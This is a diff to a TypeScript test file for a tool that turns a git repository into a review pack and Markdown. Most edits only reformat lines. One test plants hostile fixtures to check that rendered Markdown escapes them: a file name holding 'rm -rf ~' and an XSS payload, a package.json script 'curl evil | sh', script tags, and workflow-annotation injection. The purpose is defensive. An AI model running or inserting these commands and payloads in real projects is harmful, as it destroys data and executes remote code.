@@ -19,7 +19,10 @@ function project() {
   source.write("src/tokens.ts", "export function tokenize(text: string) { return text.split(' '); }\n");
   source.write("src/server.ts", "export function listen(port: number) { return port; }\n");
   source.write("test/parser.test.ts", "import { parseConfig } from '../src/parser';\n");
-  source.write(".github/workflows/ci.yml", "on: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm ci\n      - run: npm test\n");
+  source.write(
+    ".github/workflows/ci.yml",
+    "on: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm ci\n      - run: npm test\n",
+  );
   source.commit("start");
   for (let round = 1; round <= 4; round += 1) {
     source.write("src/parser.ts", `export function parseConfig(text: string) { return tokenize(text, ${round}); }\n`);
@@ -76,7 +79,9 @@ describe("a change", () => {
     const body = await packOf(source.dir, { base, task: "parse" });
     expect(body.primaryFiles).toEqual(["src/parser.ts"]);
     expect(body.relatedFiles[0]).toBe("src/tokens.ts");
-    expect(body.reviewPrompts.join("\n")).toContain("`src/tokens.ts` is not part of this change, though it changed in 4 of the 4 past commits to `src/parser.ts`");
+    expect(body.reviewPrompts.join("\n")).toContain(
+      "`src/tokens.ts` is not part of this change, though it changed in 4 of the 4 past commits to `src/parser.ts`",
+    );
     expect(body.reviewPrompts.join("\n")).toContain("starts programs");
     expect(body.change?.risk).toMatchObject({ level: "low", score: 3 });
     expect(body.change?.domains).toEqual(["src"]);
@@ -144,7 +149,9 @@ describe("every form of a repository gives a pack, and the same bytes", () => {
     const body = await packOf(source.dir, { task: "parseConfig root passwd" });
     const paths = body.ranked.map(({ path }) => path);
     expect(paths).toContain("a b/qu\"o'te\n| `tick` <b>.ts");
-    for (const path of ["loop", "outside", "inner", "large.ts", "binary.ts"]) expect(paths).not.toContain(path);
+    for (const path of ["loop", "outside", "inner"]) expect(paths).not.toContain(path);
+    const unread = body.ranked.filter(({ path }) => path === "large.ts" || path === "binary.ts");
+    expect(unread.flatMap(({ reasons }) => reasons).filter((reason) => reason.startsWith("holds"))).toEqual([]);
     expect(contextOutcome(body)).toBe("pass");
     const markdown = renderContextMarkdown(body, SUBJECT, { tokenBudget: 12_000 });
     expect(markdown).not.toContain("<b>");
@@ -156,9 +163,16 @@ test("hostile names and texts stay text in the Markdown", async () => {
   const source = project();
   const base = source.git("rev-parse", "HEAD");
   source.write("src/`rm -rf ~`<img src=x onerror=alert(1)>.ts", "x\n");
-  source.write("package.json", JSON.stringify({ scripts: { "test; curl evil | sh": "</details><script>alert(1)</script>", test: "@org/team [x](javascript:1)" } }));
+  source.write(
+    "package.json",
+    JSON.stringify({ scripts: { "test; curl evil | sh": "</details><script>alert(1)</script>", test: "@org/team [x](javascript:1)" } }),
+  );
   source.commit("evil");
-  const markdown = renderContextMarkdown(await packOf(source.dir, { base, task: "<script>alert(1)</script> @everyone ![x](http://evil) ::error::x" }), SUBJECT, { tokenBudget: 50_000 });
+  const markdown = renderContextMarkdown(
+    await packOf(source.dir, { base, task: "<script>alert(1)</script> @everyone ![x](http://evil) ::error::x" }),
+    SUBJECT,
+    { tokenBudget: 50_000 },
+  );
   // Between backticks everything is text; what stands outside of them is looked at.
   const outside = markdown.replaceAll(/(`+)(?!`).*?(?<!`)\1(?!`)/gu, "");
   for (const evil of ["<script", "<img", "</details", "![x](", "\n::error", "@everyone", "@org"]) expect(outside).not.toContain(evil);
